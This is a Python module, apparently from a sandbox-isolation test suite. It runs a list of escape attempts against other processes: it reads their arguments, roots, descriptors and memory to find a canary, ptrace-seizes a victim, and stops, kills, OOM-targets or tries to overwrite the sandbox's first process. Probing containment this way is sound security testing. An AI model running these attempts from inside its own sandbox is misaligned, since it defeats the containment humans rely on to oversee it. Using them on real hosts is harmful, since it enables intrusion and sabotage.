"""Attempts on other processes, the sandbox's first above all."""

from __future__ import annotations

import os
import resource
import signal
import time
from pathlib import Path

from campaigns.escapes.inside.looking import INHERITED, Attempt, Target, first_open, holds, pids
from tasks.sandbox.probe import LIBC

PTRACE_SEIZE = 0x4206


def arguments_of_processes(target: Target) -> str:
    found = (str(pid) for pid in pids() if holds(pid / "cmdline", target["canary"]))
    return next(found, "")


def roots_of_processes(target: Target) -> str:
    """Read a file of the host by way of another process's root or folder."""
    up = "../" * 12
    for pid in pids():
        for way in (f"root{target['file']}", f"cwd/{up}{target['file']}"):
            if holds(pid / way, target["canary"]):
                return str(pid / way)
    return ""


def descriptors_of_processes(target: Target) -> str:
    for pid in pids():
        try:
            names = [path.name for path in (pid / "fd").iterdir()]
        except OSError:
            continue
        for name in names:
            if holds(pid / "fd" / name, target["canary"]):
                return str(pid / "fd" / name)
    return ""


def memory_of_processes(target: Target) -> str:
    """Read every process's environment out of its memory."""
    for pid in pids():
        try:
            fields = (pid / "stat").read_text().rpartition(")")[2].split()
            begin, end = int(fields[47]), int(fields[48])
            with (pid / "mem").open("rb", buffering=0) as memory:
                memory.seek(begin)
                if target["canary"].encode() in memory.read(min(end - begin, 1 << 20)):
                    return f"{pid}/mem"
        except (OSError, ValueError, OverflowError):
            continue
    return ""


def trace_process(target: Target) -> str:
    done = LIBC.ptrace(PTRACE_SEIZE, target["victim"], None, None)
    return f"traces {target['victim']}" if done == 0 else ""


def stop_first_process(target: Target) -> str:
    os.kill(target["first"], signal.SIGSTOP)
    time.sleep(0.05)
    state = Path(f"/proc/{target['first']}/stat").read_text().rpartition(")")[2].split()[0]
    os.kill(target["first"], signal.SIGCONT)
    return "stopped" if state == "T" else ""


def limit_first_process(target: Target) -> str:
    resource.prlimit(target["first"], resource.RLIMIT_CORE, (0, 0))
    return "limited"


def doom_first_process(target: Target) -> str:
    """Name the first process to be killed when memory is short."""
    Path(f"/proc/{target['first']}/oom_score_adj").write_text("1000")
    return "named"


def replace_first_program(target: Target) -> str:
    return first_open([f"/proc/{target['first']}/exe", "/proc/self/exe"], os.O_WRONLY)


def kill_first_process(target: Target) -> str:
    os.kill(target["first"], signal.SIGKILL)
    time.sleep(0.05)
    try:
        state = Path(f"/proc/{target['first']}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return "killed"
    return "killed" if state in "ZX" else ""


def extra_descriptors(_target: Target) -> str:
    extra = [way for number, way in INHERITED.items() if number not in ("0", "1", "2")]
    return " ".join(way for way in extra if not way.startswith("/proc/"))


ATTEMPTS: list[Attempt] = [
    arguments_of_processes, roots_of_processes, descriptors_of_processes, memory_of_processes,
    trace_process, stop_first_process, limit_first_process, doom_first_process,
    replace_first_program, kill_first_process, extra_descriptors,
]  # fmt: skip
